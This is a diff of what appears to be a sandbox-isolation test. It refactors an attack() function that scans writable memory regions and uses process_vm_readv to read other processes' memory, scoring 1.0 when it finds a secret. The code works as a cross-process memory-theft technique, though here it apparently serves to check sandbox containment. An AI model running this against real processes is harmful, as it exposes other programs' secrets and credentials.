@@ -6,7 +6,7 @@ plain bwrap: succeeds
 
 import ctypes
 
-from tools import is_secret, others, syscall
+from tools import is_secret, others, syscall, writable_spans
 
 
 class Part(ctypes.Structure):
@@ -18,14 +18,9 @@ def attack():
     buffer = ctypes.create_string_buffer(size)
     own = Part(ctypes.addressof(buffer), size)
     for pid in others():
-        try:
-            with open("/proc/self/maps") as maps:  # forks have the same layout, so one's own will do for theirs
-                spans = [line.split()[0].split("-") for line in maps if " rw-p " in line]
-        except OSError:
-            return 0.0
-        for low, high in spans:
-            for base in range(int(low, 16), min(int(high, 16), int(low, 16) + (64 << 20)), size):
-                theirs = Part(base, min(size, int(high, 16) - base))
+        for low, high in writable_spans():  # forks have the same layout, so one's own will do for theirs
+            for base in range(low, min(high, low + (64 << 20)), size):
+                theirs = Part(base, min(size, high - base))
                 got = syscall("process_vm_readv", pid, ctypes.byref(own), 1, ctypes.byref(theirs), 1, 0)
                 if got > 0 and is_secret(buffer.raw[:got]):
                     return 1.0
